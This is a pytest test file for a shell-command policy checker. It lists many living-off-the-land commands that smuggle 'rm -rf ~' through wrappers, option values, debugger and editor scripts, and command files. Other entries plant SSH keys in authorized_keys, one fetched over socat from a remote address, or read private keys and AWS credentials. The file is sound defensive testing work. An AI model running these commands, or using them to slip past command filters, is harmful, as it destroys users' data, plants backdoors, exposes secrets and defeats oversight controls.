"""Living-off-the-land programs: a command another program runs for you — a wrapper in front of it,
an option whose value is a command line, a program's own command language — is judged as that
command; the same programs' everyday use stays quiet."""
from __future__ import annotations

import pytest

from adr.actions import Decision

# each runs `rm -rf ~` (denied when typed directly)
RUNS_HOME_DELETE = [
    # wrappers: personalities, cgroups, schedulers, daemontools/s6, container inits, launchers
    "setarch x86_64 -R rm -rf ~",
    "arch -x86_64 /bin/bash -c 'rm -rf ~'",
    "cgexec -g memory:grp bash -c 'rm -rf ~'",
    "schedtool -B -e rm -rf ~",
    "chpst -u root rm -rf ~",
    "gosu root sh -c 'rm -rf ~'",
    "sandbox-exec -n no-network rm -rf ~",
    "sem --id x rm -rf ~",
    # runner subcommands
    "ip netns exec blue rm -rf ~",
    "cmake -E env X=1 rm -rf ~",
    # options whose value is a command line
    "man --pager='rm -rf ~' ls",
    "more '+!rm -rf ~' f",
    "zip x.zip f -T --unzip-command='rm -rf ~ #'",
    "tar -F 'rm -rf ~' -cf x.tar -M -L1 f",
    "nano --speller='rm -rf ~' f",
    "dialog --prgbox 'rm -rf ~' 10 10",
    "rpm --eval '%(rm -rf ~)'",
    "apt-get update -o APT::Update::Pre-Invoke::='rm -rf ~'",
    "wget --use-askpass='rm -rf ~' http://x",
    "rake -e 'system(\"rm -rf ~\")'",
    "openvpn --dev null --script-security 2 --up '/bin/sh -c \"rm -rf ~\"'",
    "git send-email --to-cmd='rm -rf ~' x.patch",
    "git -c gpg.format=ssh -c gpg.ssh.defaultKeyCommand='rm -rf ~' commit -S -m x",
    "git -c interactive.diffFilter='rm -rf ~' add -p",
    "tcpdump -w x -G 1 -W 1 -z 'rm -rf ~'",
    # a program's own command language
    "lldb -o 'platform shell rm -rf ~'",
    "smbclient //h/s -c '!rm -rf ~'",
    "m4 <<< 'esyscmd(rm -rf ~)'",
    "emacs -Q -nw --eval '(term \"rm -rf ~\")'",
    "emacsclient -e '(shell-command \"rm -rf ~\")'",
    "gdb -batch -ex 'call system(\"rm -rf ~\")' -p 1",
    "lldb -p 1 -o 'expr (int)system(\"rm -rf ~\")'", "lldb --attach-pid 1 -o 'expression -l c -- (int)popen(\"rm -rf ~\", \"r\")'",
    "dc -e '!rm -rf ~'",
    "gnuplot -e 'system(\"rm -rf ~\")'",
    "pdflatex --shell-escape '\\immediate\\write18{rm -rf ~}\\end'",
    "irb <<< 'system(\"rm -rf ~\")'",
    "posh -c 'rm -rf ~'",
    # developer tools' options that name a program they run
    "go run -exec 'sh -c \"rm -rf ~\"' .",
    "cargo --config 'target.x86_64-unknown-linux-gnu.runner=\"rm -rf ~\"' run",
    "bazel run --run_under='rm -rf ~ #' //x",
    "npm run build --script-shell='rm -rf ~'",
    "mysql --pager='rm -rf ~' -e 'select 1'",
    "mvn exec:exec -Dexec.executable=sh -Dexec.args='-c \"rm -rf ~\"'",
    "wget -e use_askpass='rm -rf ~' http://x",
    "salt-call --local cmd.run 'rm -rf ~'",
    "zellij run -- sh -c 'rm -rf ~'",
]

# files written or read through a program's own options and languages: each asks (or is denied)
NOT_ALLOWED = [
    "vim -c ':w! ~/.ssh/authorized_keys' /tmp/key",
    "ex -sc 'sav ~/.bashrc|q' /tmp/x",
    "ed -s /tmp/k <<< 'w /home/dev/.ssh/authorized_keys'",
    "socat -u tcp-connect:10.0.0.1:4444 open:/home/dev/.ssh/authorized_keys,creat,append",
    "echo ssh-rsa AAA | socat - CREATE:/home/dev/.bashrc",
    "find / -fprintf ~/.ssh/authorized_keys 'ssh-rsa AAA' -quit",
    "awk 'BEGIN{while((getline < (ENVIRON[\"HOME\"] \"/.ssh/id_rsa\"))>0)print}'",
    "file -f ~/.aws/credentials",
    "echo $'all:\\n\\trm -rf ~' | make -f -",
]

QUIET = [
    "setarch x86_64 -R ./a.out",
    "ip netns exec blue ip addr",
    "gosu app python app.py",
    "man -P cat ls",
    "strace -o trace.txt ls",
    "apt-get -o Dpkg::Options::=--force-confold install -y jq",
    "rpm --eval '%{_libdir}'",
    "git -c color.ui=always log",
    "git -c credential.helper=store fetch",
    "lldb -o run -o bt ./a.out",
    "m4 -D VERSION=1.2 config.m4",
    "vim -c 'w out.txt' -c q in.txt",
    "ed -s f.txt <<< $'1d\\nw\\nq'",
    "socat -u UNIX-CONNECT:/tmp/app.sock OPEN:out.bin,creat",
    "awk 'BEGIN{while((getline l < \"data.txt\")>0) n++; print n}'",
    "file -f names.txt",
    "echo 'all: ; @echo ok' | make -f -",
    "cargo --config 'net.git-fetch-with-cli=true' build",
    "gnuplot -e 'plot sin(x)'",
    "pdflatex -interaction=nonstopmode doc.tex",
]


@pytest.mark.parametrize("cmd", RUNS_HOME_DELETE)
def test_a_command_run_for_you_is_judged(judge_command, cmd):
    v = judge_command(cmd)
    assert v.decision is Decision.DENY, (cmd, v.rule_ids)


@pytest.mark.parametrize("cmd", QUIET)
def test_everyday_use_stays_quiet(judge_command, cmd):
    v = judge_command(cmd)
    assert v.decision is Decision.ALLOW, (cmd, v.rule_ids)


@pytest.mark.parametrize("cmd", NOT_ALLOWED)
def test_a_file_written_or_read_through_a_program_is_seen(judge_command, cmd):
    v = judge_command(cmd)
    assert v.decision is not Decision.ALLOW, cmd


# a program's own command file, named on the line: its shell escapes run like the same text inline
COMMAND_FILES = [
    ("cmds.gdb", "break main\nshell rm -rf ~\n", "gdb -x cmds.gdb ./a.out"),
    ("x.lldb", "platform shell rm -rf ~\n", "lldb -s x.lldb"),
    ("evil.vim", ":!rm -rf ~\n", "vim -S evil.vim notes.txt"),
    ("x.el", '(shell-command "rm -rf ~")\n', "emacs --batch -l x.el"),
    ("x.m4", "esyscmd(rm -rf ~)\n", "m4 x.m4"),
    ("init.sql", ".shell rm -rf ~\n", "sqlite3 -init init.sql app.db"),
]


@pytest.mark.parametrize("name,text,cmd", COMMAND_FILES)
def test_a_command_file_is_judged_as_what_it_runs(judge_at, tmp_path, name, text, cmd):
    (tmp_path / name).write_text(text)
    assert judge_at(tmp_path, cmd).decision is Decision.DENY, cmd
    (tmp_path / name).write_text("break main\nset number\n")  # an ordinary one stays quiet
    assert judge_at(tmp_path, cmd).decision is Decision.ALLOW, cmd
